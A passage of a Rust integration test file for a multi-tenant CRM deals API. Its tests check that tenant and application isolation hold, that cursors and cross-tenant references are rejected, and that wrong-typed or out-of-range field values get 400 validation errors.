    for query in [
        format!("assigned_to={user}"),
        format!("organization_id={account}"),
        format!("contact_id={contact}"),
        format!("stage_id={stage}"),
        "title[like]=secret".to_owned(),
    ] {
        let uri = format!("/api-v1-deals?{query}");
        let control = get(&a.api, &uri).await;
        assert!(
            !data_ids(&control.body).is_empty(),
            "{uri} finds nothing even for A: {}",
            control.body
        );
        let response = get(&b, &uri).await;
        assert_eq!(response.status, 200, "{uri}: {}", response.body);
        assert_eq!(response.body["data"], json!([]), "{uri}");
        assert_eq!(response.body["pagination"]["total"], 0, "{uri}");
    }
    // Unfiltered lists, with every include: only B's own.
    let all = "include=account,primary_contact,contacts,stage,pipeline,owner";
    for uri in [
        DEALS.to_owned(),
        format!("{DEALS}?{all}"),
        format!("{DEALS}?{all}&sort=name"),
        format!("{DEALS}?{all}&sort=-value"),
        format!("{DEALS}?{all}&sort=updated_at"),
        format!("{DEALS}?owner_id[ne]={user}"),
        format!("{DEALS}?page=1&per_page=100"),
        "/api-v1-deals?include=organization,contact,stage,assigned_user".to_owned(),
    ] {
        let response = get(&b, &uri).await;
        assert_eq!(response.status, 200, "{uri}: {}", response.body);
        assert_eq!(
            data_ids(&response.body),
            std::slice::from_ref(&own),
            "{uri}"
        );
        assert_eq!(response.body["pagination"]["total"], 1, "{uri}");
        a.assert_not_leaked(&response, &uri);
    }
    for uri in [
        "/api/v1/crm/accounts",
        "/api/v1/crm/contacts",
        "/api/v1/crm/users",
        "/api/v1/crm/pipelines",
        "/api/v1/crm/stages",
        "/api/v1/crm/pipelines/default/stages",
        "/api/v1/crm/pipelines/default",
    ] {
        let response = get(&b, uri).await;
        assert_eq!(response.status, 200, "{uri}: {}", response.body);
        a.assert_not_leaked(&response, uri);
    }
    let stages = get(&b, "/api/v1/crm/stages").await;
    assert_eq!(
        stages.body["data"].as_array().map(Vec::len),
        Some(6),
        "B has only the default stages: {}",
        stages.body
    );
    a.assert_unchanged(&before).await;
}

#[tokio::test]
async fn another_tenants_cursor_is_400() {
    let a = TenantA::seeded().await;
    let b = a.api.other_tenant();
    for n in 0..3 {
        b.create(json!({"name": format!("B {n}"), "stage": "qualified"}))
            .await;
    }
    for (crm, documented) in [
        ("limit=1".to_owned(), "limit=1".to_owned()),
        (
            "limit=1&sort=name".to_owned(),
            "limit=1&sort=title".to_owned(),
        ),
        (
            "limit=1&stage=qualified".to_owned(),
            "limit=1&stage_id=qualified".to_owned(),
        ),
        (
            format!("limit=1&owner_id={}", a.user),
            format!("limit=1&assigned_to={}", a.user),
        ),
    ] {
        for (base, query) in [(DEALS, &crm), ("/api-v1-deals", &documented)] {
            let first = get(&a.api, &format!("{base}?{query}")).await;
            assert_eq!(first.status, 200, "{}", first.body);
            let Some(cursor) = first.body["pagination"]["next_cursor"].as_str() else {
                // Only A's two deals with A's owner in A's tenant have a next page, and the
                // qualified filter has one deal in A: no cursor to steal.
                assert!(
                    query.contains("=qualified"),
                    "{base}?{query}: {}",
                    first.body
                );
                continue;
            };
            let uri = format!("{base}?{query}&cursor={cursor}");
            let stolen = get(&b, &uri).await;
            let (_, fields) = expect_error(&stolen, 400, "VALIDATION_ERROR", "A's cursor", &uri);
            assert_eq!(fields, ["cursor"], "{uri}");
            a.assert_not_leaked(&stolen, &uri);
            // A itself may continue with it.
            let own = get(&a.api, &uri).await;
            assert_eq!(own.status, 200, "{uri}: {}", own.body);
        }
    }
    // Record lists: a cursor of A names a position, never A's data, in B's partition.
    let second = a.api.account("Alice Second Corp").await;
    let page = get(&a.api, "/api/v1/crm/accounts?limit=1").await;
    let cursor = page.body["pagination"]["next_cursor"]
        .as_str()
        .expect("cursor");
    let uri = format!("/api/v1/crm/accounts?limit=1&cursor={cursor}");
    let replay = get(&b, &uri).await;
    no_server_error(&replay, "A's account cursor", &uri);
    a.assert_not_leaked(&replay, &uri);
    assert!(!replay.body.to_string().contains(&second));
}

#[tokio::test]
async fn another_tenants_stages_and_records_cannot_be_referenced() {
    let a = TenantA::seeded().await;
    let b = a.api.other_tenant();
    let own = id_of(&b.create(json!({"name": "B's own deal"})).await);
    let own_user = b.user("Bob").await;
    let own_contact = b.contact("Bea").await;
    let before = a.snapshot().await;
    let stage = &a.stages[0];
    let invalid_stage = [
        "Invalid stage",
        "Stage not found or does not belong to your company",
        "Stage not found",
    ];
    let cases: Vec<(&str, Value, &str, &[&str])> = vec![
        ("stage", json!({"stage": stage}), "stage", &invalid_stage),
        (
            "won stage",
            json!({"stage": a.stages[1]}),
            "stage",
            &invalid_stage,
        ),
        (
            "pipeline",
            json!({"pipeline_id": a.pipeline}),
            "pipeline_id",
            &[],
        ),
        (
            "pipeline and stage",
            json!({"pipeline_id": a.pipeline, "stage": stage}),
            "",
            &[],
        ),
        (
            "account",
            json!({"account_id": a.account}),
            "account_id",
            &["Organization not found"],
        ),
        (
            "owner",
            json!({"owner_id": a.user}),
            "owner_id",
            &["User not found"],
        ),
        (
            "primary contact",
            json!({"primary_contact_id": a.contact}),
            "primary_contact_id",
            &["Contact not found"],
        ),
        (
            "contacts",
            json!({"contact_ids": [own_contact, a.contact]}),
            "contact_ids",
            &["Contact not found"],
        ),
    ];
    for (what, body, field, messages) in &cases {
        let mut create = body.clone();
        create["name"] = json!("B tries");
        for (method, uri, body) in [
            (Method::POST, DEALS.to_owned(), create),
            (Method::PATCH, format!("{DEALS}/{own}"), body.clone()),
        ] {
            let response = send_with(&b, method.clone(), &uri, Some(&body)).await;
            let (message, fields) = expect_error(&response, 400, "VALIDATION_ERROR", what, &uri);
            if !field.is_empty() {
                assert!(
                    fields.iter().any(|f| f == field),
                    "{what}: {method} {uri}: {}",
                    response.body
                );
            }
            if !messages.is_empty() {
                let detail_messages: Vec<&str> = response.body["error"]["details"]
                    .as_array()
                    .expect("details")
                    .iter()
                    .filter_map(|d| d["message"].as_str())
                    .collect();
                assert!(
                    messages.contains(&message.as_str())
                        || detail_messages.iter().any(|m| messages.contains(m)),
                    "{what}: {method} {uri}: {}",
                    response.body
                );
            }
            a.assert_not_leaked(&response, what);
        }
    }
    // The stage endpoint, on both views.
    for (uri, body, field) in [
        (
            format!("{DEALS}/{own}/stage"),
            json!({"stage": stage}),
            "stage",
        ),
        (
            format!("{DEALS}/{own}/stage"),
            json!({"stage_id": a.stages[2], "loss_reason": "x", "loss_category": "y"}),
            "stage_id",
        ),
        (
            format!("/api-v1-deals/{own}/stage"),
            json!({"stage_id": stage}),
            "stage_id",
        ),
    ] {
        let response = send_with(&b, Method::PATCH, &uri, Some(&body)).await;
        let (_, fields) = expect_error(&response, 400, "VALIDATION_ERROR", "stage move", &uri);
        assert_eq!(fields, [field], "{uri}: {}", response.body);
    }
    // The documented view names its own fields.
    for (body, field, message) in [
        (
            json!({"title": "B", "organization_id": a.account}),
            "organization_id",
            "Organization not found",
        ),
        (
            json!({"title": "B", "assigned_to": a.user}),
            "assigned_to",
            "User not found",
        ),
        (
            json!({"title": "B", "contact_id": a.contact}),
            "contact_id",
            "Contact not found",
        ),
        (json!({"title": "B", "stage_id": stage}), "stage_id", ""),
    ] {
        for (method, uri) in [
            (Method::POST, "/api-v1-deals".to_owned()),
            (Method::PATCH, format!("/api-v1-deals/{own}")),
        ] {
            let response = send_with(&b, method.clone(), &uri, Some(&body)).await;
            let (headline, fields) = expect_error(&response, 400, "VALIDATION_ERROR", field, &uri);
            assert_eq!(fields, [field], "{method} {uri}: {}", response.body);
            if !message.is_empty() {
                assert_eq!(headline, message, "{method} {uri}");
            }
        }
    }
    // Records and pipelines that point elsewhere.
    let response = send_with(
        &b,
        Method::POST,
        "/api/v1/crm/contacts",
        Some(&json!({"first_name": "Eve", "account_id": a.account})),
    )
    .await;
    let (message, fields) = expect_error(
        &response,
        400,
        "VALIDATION_ERROR",
        "contact's account",
        "/api/v1/crm/contacts",
    );
    assert_eq!(
        (message.as_str(), fields),
        ("Organization not found", vec!["account_id".to_owned()])
    );
    let uri = format!("/api/v1/crm/contacts/{own_contact}");
    let response = send_with(
        &b,
        Method::PATCH,
        &uri,
        Some(&json!({"account_id": a.account})),
    )
    .await;
    let (message, _) = expect_error(
        &response,
        400,
        "VALIDATION_ERROR",
        "contact's account",
        &uri,
    );
    assert_eq!(message, "Organization not found");
    let uri = format!("/api/v1/crm/users/{own_user}?reassign_to={}", a.user);
    let response = send_with(&b, Method::DELETE, &uri, None).await;
    let (_, fields) = expect_error(
        &response,
        400,
        "VALIDATION_ERROR",
        "reassign to A's user",
        &uri,
    );
    assert_eq!(fields, ["reassign_to"]);
    let uri = format!("/api/v1/crm/pipelines/default/stages/lead?move_to={stage}");
    let response = send_with(&b, Method::DELETE, &uri, None).await;
    let (_, fields) = expect_error(
        &response,
        400,
        "VALIDATION_ERROR",
        "move to A's stage",
        &uri,
    );
    assert_eq!(fields, ["move_to"]);

    // B's own items are as they were, B's user and contact still exist.
    let deal = get(&b, &format!("{DEALS}/{own}")).await;
    assert_eq!(deal.body["data"]["version"], 1, "{}", deal.body);
    assert_eq!(deal.body["data"]["account_id"], Value::Null);
    assert_eq!(
        get(&b, &format!("/api/v1/crm/users/{own_user}"))
            .await
            .status,
        200
    );
    assert_eq!(data_ids(&get(&b, DEALS).await.body), [own]);
    a.assert_unchanged(&before).await;
}

#[tokio::test]
async fn ids_numbers_and_idempotency_keys_of_one_tenant_are_free_in_another() {
    let a = TenantA::seeded().await;
    let b = a.api.other_tenant();
    let before = a.snapshot().await;
    // Record ids chosen by A: B may create its own with the same ids (409 would tell B that
    // the id exists somewhere), and its deals then embed B's records, never A's.
    let response = send_with(
        &b,
        Method::POST,
        "/api/v1/crm/accounts",
        Some(&json!({"id": a.account, "name": "Bob Corp"})),
    )
    .await;
    assert_eq!(response.status, 201, "{}", response.body);
    let response = send_with(
        &b,
        Method::POST,
        "/api/v1/crm/users",
        Some(&json!({"id": a.user, "full_name": "Bob Owner"})),
    )
    .await;
    assert_eq!(response.status, 201, "{}", response.body);
    let response = send_with(
        &b,
        Method::POST,
        "/api/v1/crm/contacts",
        Some(&json!({"id": a.contact, "first_name": "Bea", "account_id": a.account})),
    )
    .await;
    assert_eq!(response.status, 201, "{}", response.body);
    let deal = b
        .create(
            json!({"name": "B's deal", "account_id": a.account, "owner_id": a.user,
                       "primary_contact_id": a.contact, "deal_number": A_DEAL_NUMBER}),
        )
        .await;
    assert_eq!(deal["deal_number"], A_DEAL_NUMBER);
    assert_eq!(deal["included"]["account"]["name"], "Bob Corp");
    assert_eq!(deal["included"]["owner"]["full_name"], "Bob Owner");
    assert_eq!(deal["included"]["primary_contact"]["first_name"], "Bea");
    let listed = get(
        &b,
        &format!(
            "{DEALS}?account_id={}&include=account,owner,primary_contact,contacts",
            a.account
        ),
    )
    .await;
    assert_eq!(data_ids(&listed.body), [id_of(&deal)]);
    assert_eq!(
        listed.body["data"][0]["included"]["account"]["name"],
        "Bob Corp"
    );
    assert_eq!(listed.body["pagination"]["total"], 1);
    assert!(
        !listed.body.to_string().contains("Alice"),
        "{}",
        listed.body
    );

    // The same Idempotency-Key in two tenants makes two deals, each answered to its own tenant.
    let key = "shared-order-42";
    let first = a
        .api
        .call(Method::POST, DEALS)
        .header("idempotency-key", key)
        .json(&json!({"name": "A once"}))
        .send()
        .await;
    assert_eq!(first.status, 201, "{}", first.body);
    let other = b
        .call(Method::POST, DEALS)
        .header("idempotency-key", key)
        .json(&json!({"name": "A once"}))
        .send()
        .await;
    assert_eq!(other.status, 201, "{}", other.body);
    assert_eq!(other.header("idempotent-replayed"), None);
    assert_ne!(other.body["data"]["id"], first.body["data"]["id"]);
    assert_eq!(other.body["data"]["tenant_id"], b.tenant.as_str());
    // B's deletions of its namesakes leave A's records alone.
    let detach = send_with(
        &b,
        Method::DELETE,
        &format!(
            "/api/v1/crm/accounts/{}?deals=detach&contacts=detach",
            a.account
        ),
        None,
    )
    .await;
    assert_eq!(detach.status, 200, "{}", detach.body);
    let unassign = send_with(
        &b,
        Method::DELETE,
        &format!("/api/v1/crm/users/{}?deals=unassign", a.user),
        None,
    )
    .await;
    assert_eq!(unassign.status, 200, "{}", unassign.body);
    // A's own: one more deal ("A once"), the rest untouched.
    let replay = a
        .api
        .call(Method::POST, DEALS)
        .header("idempotency-key", key)
        .json(&json!({"name": "A once"}))
        .send()
        .await;
    assert_eq!(replay.status, 201);
    assert_eq!(replay.header("idempotent-replayed"), Some("true"));
    assert_eq!(replay.body["data"]["id"], first.body["data"]["id"]);
    let response = send_with(
        &a.api,
        Method::DELETE,
        &format!("/api/v1/crm/accounts/{}", a.account),
        None,
    )
    .await;
    assert_eq!(
        response.status, 409,
        "A's account is still used by A's deal: {}",
        response.body
    );
    let once = id_of(&first.body["data"]);
    let deleted = send_with(&a.api, Method::DELETE, &format!("{DEALS}/{once}"), None).await;
    assert_eq!(deleted.status, 200);
    a.assert_unchanged(&before).await;
}

// ---------------------------------------------------------------------------------------------
// 3. Application keys
// ---------------------------------------------------------------------------------------------

fn app_token(api: &TestApi, app: &str) -> String {
    let mut request = local::token::TokenRequest::new(&api.tenant, ALL_SCOPES);
    request.app_id = Some(app.into());
    api.token_for(request)
}

#[tokio::test]
async fn application_tokens_reach_only_their_applications_deals() {
    let api = TestApi::new().await;
    let crm = app_token(&api, "app-crm");
    let other = app_token(&api, "app-other");
    let create_as = |token: String, name: &'static str| {
        let call = api
            .call(Method::POST, DEALS)
            .token(&token)
            .json(&json!({"name": name, "stage": "qualified"}));
        async move {
            let response = call.send().await;
            assert_eq!(response.status, 201, "{}", response.body);
            response.body["data"].clone()
        }
    };
    let mine = create_as(crm.clone(), "by app-crm").await;
    assert_eq!(mine["app_id"], "app-crm");
    let theirs = create_as(other.clone(), "by app-other").await;
    let person = api
        .create(json!({"name": "by a person", "stage": "qualified"}))
        .await;
    assert_eq!(person["app_id"], Value::Null);
    // A stage change so that each has history.
    for deal in [&theirs, &person] {
        let response = api
            .call(Method::PATCH, &format!("{DEALS}/{}/stage", id_of(deal)))
            .json(&json!({"stage": "proposal"}))
            .send()
            .await;
        assert_eq!(response.status, 200, "{}", response.body);
    }
    let before: Vec<Value> = {
        let mut bodies = Vec::new();
        for deal in [&theirs, &person] {
            bodies.push(get(&api, &format!("{DEALS}/{}", id_of(deal))).await.body);
        }
        bodies
    };

    // The app sees only its deal in lists, whatever the filter or view.
    for uri in [
        DEALS.to_owned(),
        format!("{DEALS}?stage=qualified"),
        format!("{DEALS}?stage[in]=qualified,proposal"),
        format!("{DEALS}?name[like]=by"),
        format!("{DEALS}?sort=name"),
        format!("{DEALS}?sort=-updated_at&include=stage"),
        format!("{DEALS}?page=1&per_page=10"),
        "/api-v1-deals".to_owned(),
    ] {
        let response = api.call(Method::GET, &uri).token(&crm).send().await;
        assert_eq!(response.status, 200, "{uri}: {}", response.body);
        assert_eq!(data_ids(&response.body), [id_of(&mine)], "{uri}");
        assert_eq!(
            response.body["pagination"]["total"], 1,
            "{uri}: {}",
            response.body
        );
        let text = response.body.to_string();
        assert!(
            !text.contains("by app-other") && !text.contains("by a person"),
            "{uri}"
        );
    }
    let proposal = api
        .call(Method::GET, &format!("{DEALS}?stage=proposal"))
        .token(&crm)
        .send()
        .await;
    assert_eq!(proposal.body["data"], json!([]));
    assert_eq!(proposal.body["pagination"]["total"], 0, "{}", proposal.body);

    // Every by-id endpoint of another application's or a person's deal is 404.
    for deal in [&theirs, &person] {
        let id = id_of(deal);
        for (method, uri, body) in [
            (Method::GET, format!("{DEALS}/{id}"), None),
            (
                Method::PATCH,
                format!("{DEALS}/{id}"),
                Some(json!({"name": "hijacked"})),
            ),
            (
                Method::PATCH,
                format!("{DEALS}/{id}/stage"),
                Some(json!({"stage": "lead"})),
            ),
            (Method::DELETE, format!("{DEALS}/{id}"), None),
            (Method::GET, format!("{DEALS}/{id}/history"), None),
            (Method::GET, format!("/api-v1-deals/{id}"), None),
            (
                Method::PATCH,
                format!("/api-v1-deals/{id}"),
                Some(json!({"title": "hijacked"})),
            ),
            (
                Method::PATCH,
                format!("/api-v1-deals/{id}/stage"),
                Some(json!({"stage_id": "lead"})),
            ),
            (Method::DELETE, format!("/api-v1-deals/{id}"), None),
        ] {
            for if_match in [None, Some("*")] {
                let mut call = api.call(method.clone(), &uri).token(&crm);
                if let Some(tag) = if_match {
                    call = call.header("if-match", tag);
                }
                if let Some(body) = &body {
                    call = call.json(body);
                }
                let response = call.send().await;
                expect_error(
                    &response,
                    404,
                    "NOT_FOUND",
                    &format!("{method} by app-crm"),
                    &uri,
                );
            }
        }
    }
    // A cursor of one application is no good to another, nor to a person.
    let second = create_as(crm.clone(), "by app-crm 2").await;
    let page = api
        .call(Method::GET, &format!("{DEALS}?limit=1"))
        .token(&crm)
        .send()
        .await;
    let cursor = page.body["pagination"]["next_cursor"]
        .as_str()
        .expect("cursor");
    let uri = format!("{DEALS}?limit=1&cursor={cursor}");
    for token in [&other, &api.token(ALL_SCOPES)] {
        let response = api.call(Method::GET, &uri).token(token).send().await;
        let (_, fields) = expect_error(
            &response,
            400,
            "VALIDATION_ERROR",
            "another app's cursor",
            &uri,
        );
        assert_eq!(fields, ["cursor"]);
    }
    let own = api.call(Method::GET, &uri).token(&crm).send().await;
    assert_eq!(data_ids(&own.body), [id_of(&mine)], "{}", own.body);
    // The app cannot claim another application in the body.
    let response = api
        .call(Method::POST, DEALS)
        .token(&crm)
        .json(&json!({"name": "x", "app_id": "app-other"}))
        .send()
        .await;
    let (_, fields) = expect_error(
        &response,
        400,
        "VALIDATION_ERROR",
        "app_id in the body",
        DEALS,
    );
    assert_eq!(fields, ["app_id"]);
    let response = api
        .call(Method::PATCH, &format!("{DEALS}/{}", id_of(&mine)))
        .token(&crm)
        .json(&json!({"app_id": null}))
        .send()
        .await;
    let (_, fields) = expect_error(
        &response,
        400,
        "VALIDATION_ERROR",
        "app_id in a PATCH",
        DEALS,
    );
    assert_eq!(fields, ["app_id"]);

    // The others' deals are untouched; a person's token sees and reaches everything.
    for (deal, was) in [&theirs, &person].into_iter().zip(&before) {
        let now = get(&api, &format!("{DEALS}/{}", id_of(deal))).await;
        assert_eq!(&now.body, was);
        assert_eq!(now.body["data"]["version"], 2);
    }
    let everything = get(&api, DEALS).await;
    let mut ids = data_ids(&everything.body);
    ids.sort();
    let mut expected = vec![id_of(&mine), id_of(&second), id_of(&theirs), id_of(&person)];
    expected.sort();
    assert_eq!(ids, expected);
    assert_eq!(everything.body["pagination"]["total"], 4);
    for deal in [&mine, &theirs] {
        let id = id_of(deal);
        assert_eq!(get(&api, &format!("{DEALS}/{id}")).await.status, 200);
        assert_eq!(
            get(&api, &format!("{DEALS}/{id}/history")).await.status,
            200
        );
        let patched = api
            .call(Method::PATCH, &format!("{DEALS}/{id}"))
            .json(&json!({"probability": 40}))
            .send()
            .await;
        assert_eq!(patched.status, 200, "{}", patched.body);
        assert_eq!(
            patched.body["data"]["app_id"], deal["app_id"],
            "a person's write keeps the app"
        );
    }
    // The application's own deal: every endpoint works for it.
    let id = id_of(&mine);
    for (method, uri, body) in [
        (Method::GET, format!("{DEALS}/{id}"), None),
        (Method::GET, format!("{DEALS}/{id}/history"), None),
        (
            Method::PATCH,
            format!("{DEALS}/{id}"),
            Some(json!({"name": "renamed by app-crm"})),
        ),
        (
            Method::PATCH,
            format!("{DEALS}/{id}/stage"),
            Some(json!({"stage": "proposal"})),
        ),
        (Method::GET, format!("/api-v1-deals/{id}"), None),
        (Method::DELETE, format!("{DEALS}/{id}"), None),
    ] {
        let mut call = api.call(method.clone(), &uri).token(&crm);
        if let Some(body) = &body {
            call = call.json(body);
        }
        let response = call.send().await;
        assert_eq!(response.status, 200, "{method} {uri}: {}", response.body);
    }
}

// ---------------------------------------------------------------------------------------------
// 4. Hostile input
// ---------------------------------------------------------------------------------------------

#[derive(Debug, Clone, Copy)]
enum Shape {
    Text,
    Number,
    List,
    Object,
}

/// Every writable deal field and the JSON type it takes.
const DEAL_FIELD_SHAPES: &[(&str, Shape)] = &[
    ("name", Shape::Text),
    ("account_id", Shape::Text),
    ("owner_id", Shape::Text),
    ("pipeline_id", Shape::Text),
    ("stage", Shape::Text),
    ("value", Shape::Number),
    ("currency", Shape::Text),
    ("probability", Shape::Number),
    ("forecast_category", Shape::Text),
    ("expected_close_date", Shape::Text),
    ("actual_close_date", Shape::Text),
    ("next_followup_date", Shape::Text),
    ("deal_type", Shape::Text),
    ("deal_source", Shape::Text),
    ("competitors", Shape::List),
    ("loss_reason", Shape::Text),
    ("loss_category", Shape::Text),
    ("closure_notes", Shape::Text),
    ("primary_contact_id", Shape::Text),
    ("contact_ids", Shape::List),
    ("rfp_record_id", Shape::Text),
    ("quote_ids", Shape::List),
    ("proposal_ids", Shape::List),
    ("attachment_refs", Shape::List),
    ("linked_task_ids", Shape::List),
    ("custom_fields", Shape::Object),
    ("tags", Shape::List),
    ("deal_number", Shape::Text),
    ("source", Shape::Text),
    ("source_type", Shape::Text),
];

/// The fields of the documented view.
const DOCUMENTED_FIELD_SHAPES: &[(&str, Shape)] = &[
    ("title", Shape::Text),
    ("value", Shape::Number),
    ("currency", Shape::Text),
    ("stage_id", Shape::Text),
    ("organization_id", Shape::Text),
    ("contact_id", Shape::Text),
    ("assigned_to", Shape::Text),
    ("expected_close_date", Shape::Text),
    ("probability", Shape::Number),
    ("metadata", Shape::Object),
];

/// Values of every JSON type but the field's own (and, for lists, lists of the wrong items).
fn wrong_values(shape: Shape) -> Vec<Value> {
    match shape {
        Shape::Text => vec![
            json!(42),
            json!(1.5),
            json!(-1),
            json!(0),
            json!({}),
            json!({"a": "b"}),
            json!([]),
            json!(["x"]),
            json!(true),
            json!(false),
        ],
        Shape::Number => vec![
            json!("10"),
            json!(""),
            json!("abc"),
            json!("1e3"),
            json!({}),
            json!({"n": 1}),
            json!([]),
            json!([1]),
            json!(true),
            json!(false),
        ],
        Shape::List => vec![
            json!("x"),
            json!(""),
            json!(1),
            json!({}),
            json!({"a": "b"}),
            json!(true),
            json!([1]),
            json!([true]),
            json!([null]),
            json!([{}]),
            json!([[]]),
            json!([""]),
        ],
        Shape::Object => vec![
            json!("x"),
            json!(""),
            json!(1),
            json!([]),
            json!([{}]),
            json!(true),
            json!(false),
        ],
    }
}

/// Sends `body` and asserts 400 VALIDATION_ERROR naming `field`.
async fn assert_field_refused(api: &TestApi, method: Method, uri: &str, body: &Value, field: &str) {
    let response = send_with(api, method.clone(), uri, Some(body)).await;
    let what = format!("{method} {body}");
    let (_, fields) = expect_error(&response, 400, "VALIDATION_ERROR", &what, uri);
    assert!(
        fields.iter().any(|f| f == field),
        "{what}: {uri} does not name {field}: {}",
        response.body
    );
}

#[tokio::test]
async fn wrong_types_in_every_deal_field_are_400() {
    let api = TestApi::new().await;
    let deal = id_of(&api.create(json!({"name": "target"})).await);
    let crm_path = format!("{DEALS}/{deal}");
    let documented_path = format!("/api-v1-deals/{deal}");
    for (field, shape) in DEAL_FIELD_SHAPES {
        let mut values = wrong_values(*shape);
        if matches!(
            *field,
            "name"
                | "value"
                | "currency"
                | "pipeline_id"
                | "stage"
                | "deal_number"
                | "source"
                | "source_type"
        ) {
            values.push(Value::Null);
        }
        for value in values {
            let mut create = json!({"name": "x"});
            create[*field] = value.clone();
            assert_field_refused(&api, Method::POST, DEALS, &create, field).await;
            let mut patch = json!({});
            patch[*field] = value;
            assert_field_refused(&api, Method::PATCH, &crm_path, &patch, field).await;
        }
    }
    for (field, shape) in DOCUMENTED_FIELD_SHAPES {
        for value in wrong_values(*shape) {
            let mut create = json!({"title": "x"});
            create[*field] = value.clone();
            assert_field_refused(&api, Method::POST, "/api-v1-deals", &create, field).await;
            let mut patch = json!({});
            patch[*field] = value;
            assert_field_refused(&api, Method::PATCH, &documented_path, &patch, field).await;
        }
    }
    for (field, shape) in [
        ("stage", Shape::Text),
        ("stage_id", Shape::Text),
        ("loss_reason", Shape::Text),
        ("loss_category", Shape::Text),
        ("closure_notes", Shape::Text),
    ] {
        for value in wrong_values(shape) {
            let mut body = json!({"stage": "qualified"});
            if field == "stage_id" {
                body = json!({});
            }
            body[field] = value;
            assert_field_refused(
                &api,
                Method::PATCH,
                &format!("{crm_path}/stage"),
                &body,
                field,
            )
            .await;
            // The documented view names the stage by its own name, stage_id.
            let documented_field = if field == "stage" { "stage_id" } else { field };
            let uri = format!("{documented_path}/stage");
            assert_field_refused(&api, Method::PATCH, &uri, &body, documented_field).await;
        }
    }
    let unchanged = get(&api, &crm_path).await;
    assert_eq!(unchanged.body["data"]["version"], 1);
    assert_eq!(data_ids(&get(&api, DEALS).await.body), [deal]);
}

#[tokio::test]
async fn wrong_types_in_records_and_pipelines_are_400() {
    let api = TestApi::new().await;
    let account = api.account("Target").await;
    let contact = api.contact("Target").await;
    let user = api.user("Target").await;
    let pipeline = id_of(&api.create_in("pipelines", json!({"name": "Target"})).await);
    let record_fields: [(&str, &str, Value, &[&str]); 3] = [
        (
            "accounts",
            &account,
            json!({"name": "x"}),
            &["id", "name", "status", "domain"],
        ),
        (
            "contacts",
            &contact,
            json!({"first_name": "x"}),
            &["id", "first_name", "last_name", "email", "account_id"],
        ),
        (
            "users",
            &user,
            json!({"full_name": "x"}),
            &["id", "full_name", "email"],
        ),
    ];
    for (kind, id, base, fields) in record_fields {
        let collection = format!("/api/v1/crm/{kind}");
        let item = format!("{collection}/{id}");
        for field in fields {
            for value in wrong_values(Shape::Text) {
                let mut create = base.clone();
                create[*field] = value.clone();
                assert_field_refused(&api, Method::POST, &collection, &create, field).await;
                let mut patch = json!({});
                patch[*field] = value;
                assert_field_refused(&api, Method::PATCH, &item, &patch, field).await;
            }
        }
        let record = get(&api, &item).await;
        assert_eq!(record.body["data"]["version"], 1, "{item}");
    }
    let pipelines = "/api/v1/crm/pipelines";
    let pipeline_path = format!("{pipelines}/{pipeline}");
    let stage_path = format!("{pipeline_path}/stages");
    for value in wrong_values(Shape::Text) {
        assert_field_refused(
            &api,
            Method::POST,
            pipelines,
            &json!({"name": value}),
            "name",
        )
        .await;
        assert_field_refused(
            &api,
            Method::PATCH,
            &pipeline_path,
            &json!({"name": value}),
            "name",
        )
        .await;
        for field in ["name", "color", "kind"] {
            let mut stage = json!({"name": "s"});
            stage[field] = value.clone();
            assert_field_refused(&api, Method::POST, &stage_path, &stage, field).await;
            let response = send_with(
                &api,
                Method::POST,
                pipelines,
                Some(&json!({"name": "p", "stages": [stage]})),
            )
            .await;
            expect_error(
                &response,
                400,
                "VALIDATION_ERROR",
                "pipeline with a bad stage",
                pipelines,
            );
        }
    }
    for value in wrong_values(Shape::Number) {
        for field in ["probability", "position"] {
            let mut stage = json!({"name": "s"});
            stage[field] = value.clone();
            assert_field_refused(&api, Method::POST, &stage_path, &stage, field).await;
        }
    }
    for stages in [
        json!("x"),
        json!(1),
        json!({}),
        json!(true),
        json!([1]),
        json!(["x"]),
        json!([[]]),
        json!([null]),
        json!([]),
    ] {
        let body = json!({"name": "p", "stages": stages});
        let response = send_with(&api, Method::POST, pipelines, Some(&body)).await;
        expect_error(
            &response,
            400,
            "VALIDATION_ERROR",
            &body.to_string(),
            pipelines,
        );
    }
    let listed = get(&api, pipelines).await;
    assert_eq!(
        listed.body["data"].as_array().map(Vec::len),
        Some(2),
        "{}",
        listed.body
    );
}

#[tokio::test]
async fn huge_and_out_of_range_numbers_are_400() {
    let api = TestApi::new().await;
    let deal = id_of(&api.create(json!({"name": "target"})).await);
    let path = format!("{DEALS}/{deal}");
    let digits_400 = "9".repeat(400);
    let digits_40 = "1".repeat(40);
    // Raw bodies, since these numbers are not representable once parsed.
    for (field, number) in [
        ("value", "1e308"),
        ("value", "-1e308"),
        ("value", "1e16"),
        ("value", "1000000000000001"),
        ("value", "-1"),
        ("value", "-0.0000001"),
        ("value", "1e400"),
        ("value", "-1e400"),
        ("value", digits_400.as_str()),
        ("value", digits_40.as_str()),
        ("value", "18446744073709551616"),
        ("probability", "1e308"),
        ("probability", "100.0000001"),
        ("probability", "-1"),
        ("probability", "1e400"),
        ("probability", digits_400.as_str()),
    ] {
        for (method, uri, body) in [
            (
                Method::POST,
                DEALS,
                format!(r#"{{"name":"x","{field}":{number}}}"#),
            ),
            (
                Method::PATCH,
                path.as_str(),
                format!(r#"{{"{field}":{number}}}"#),
            ),
            (
                Method::POST,
                "/api-v1-deals",
                format!(r#"{{"title":"x","{field}":{number}}}"#),
            ),
        ] {
            let response = api
                .call(method.clone(), uri)
                .header("content-type", "application/json")
                .raw_body(body.clone())
                .send()
                .await;
            let what = format!("{method} {body}");
            assert_eq!(response.status, 400, "{what}: {}", response.body);
            refusal(&response, &what, uri);
        }
    }
    for number in [
        "1e308",
        "-1e308",
        "1e126",
        "1e-200",
        "-1e-131",
        "1e400",
        digits_400.as_str(),
    ] {
        for (method, uri, body) in [
            (
                Method::POST,
                DEALS,
                format!(r#"{{"name":"x","custom_fields":{{"n":{number}}}}}"#),
            ),
            (
                Method::PATCH,
                path.as_str(),
                format!(r#"{{"custom_fields":{{"a":{{"b":[{number}]}}}}}}"#),
            ),
            (
                Method::POST,
                "/api-v1-deals",
                format!(r#"{{"title":"x","metadata":{{"n":{number}}}}}"#),
            ),
        ] {
            let response = api
                .call(method.clone(), uri)
                .header("content-type", "application/json")
                .raw_body(body.clone())
                .send()
                .await;
            let what = format!("{method} {body}");
            assert_eq!(response.status, 400, "{what}: {}", response.body);
            refusal(&response, &what, uri);
        }
    }
    for (uri, body) in [
        (
            "/api/v1/crm/pipelines".to_owned(),
            r#"{"name":"p","stages":[{"name":"s","probability":1e308}]}"#.to_owned(),
        ),
        (
            "/api/v1/crm/pipelines/default/stages".to_owned(),
            r#"{"name":"s","position":99999999999999999999}"#.to_owned(),
        ),
        (
            "/api/v1/crm/pipelines/default/stages".to_owned(),
